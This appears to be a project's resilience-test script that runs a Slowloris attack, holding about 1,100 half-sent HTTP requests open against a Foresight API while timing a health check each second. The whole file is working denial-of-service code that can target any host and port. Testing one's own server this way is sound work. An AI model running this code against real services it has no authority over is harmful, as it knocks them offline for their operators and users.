#!/usr/bin/env python3
"""Slowloris against a running Foresight API: opens N connections that each send half a
request head and then one more byte every few seconds, and meanwhile times a normal
`GET /healthz` on a new connection once a second.

    scripts/slowloris.py HOST:PORT [--connections 1100] [--seconds 30] [--every 5]

Prints, each second, how many attacking connections are still open and how long the normal
request took (or why it failed); at the end a one-line summary.
"""
import argparse
import socket
import time


def healthz(addr, timeout):
    start = time.monotonic()
    try:
        with socket.create_connection(addr, timeout=timeout) as s:
            s.settimeout(timeout)
            s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
            answer = b""
            while True:
                chunk = s.recv(4096)
                if not chunk:
                    break
                answer += chunk
        ok = answer.startswith(b"HTTP/1.1 200")
        return ok, time.monotonic() - start, answer.split(b"\r\n", 1)[0].decode(errors="replace")
    except OSError as e:
        return False, time.monotonic() - start, type(e).__name__


def main():
    p = argparse.ArgumentParser()
    p.add_argument("addr")
    p.add_argument("--connections", type=int, default=1100)
    p.add_argument("--seconds", type=float, default=30)
    p.add_argument("--every", type=float, default=5, help="seconds between trickled bytes")
    a = p.parse_args()
    host, port = a.addr.rsplit(":", 1)
    addr = (host, int(port))
    conns, refused = [], 0
    for _ in range(a.connections):
        try:
            s = socket.create_connection(addr, timeout=5)
            s.sendall(b"GET /api/v1/whoami HTTP/1.1\r\nHost: x\r\nX-Slow: ")
            s.setblocking(False)
            conns.append(s)
        except OSError:
            refused += 1
    start = time.monotonic()
    last_trickle = start
    served, failed, worst = 0, 0, 0.0
    while time.monotonic() - start < a.seconds:
        trickle = time.monotonic() - last_trickle >= a.every
        if trickle:
            last_trickle = time.monotonic()
        alive = []
        for s in conns:
            try:
                if s.recv(4096) == b"":
                    s.close()
                    continue
            except BlockingIOError:
                pass
            except OSError:
                s.close()
                continue
            if trickle:
                try:
                    s.send(b"x")
                except OSError:
                    s.close()
                    continue
            alive.append(s)
        conns = alive
        ok, took, what = healthz(addr, 5)
        if ok:
            served += 1
            worst = max(worst, took)
        else:
            failed += 1
        print(f"t={time.monotonic() - start:5.1f}s attackers open={len(conns):5d} "
              f"healthz={'ok' if ok else 'FAILED'} {took * 1000:7.1f} ms {what}", flush=True)
        time.sleep(max(0.0, 1 - took))
    print(f"summary: {a.connections} slow connections ({refused} not opened); after "
          f"{a.seconds:.0f} s {len(conns)} still open; healthz served {served}, failed {failed}, "
          f"slowest served {worst * 1000:.0f} ms")


if __name__ == "__main__":
    main()
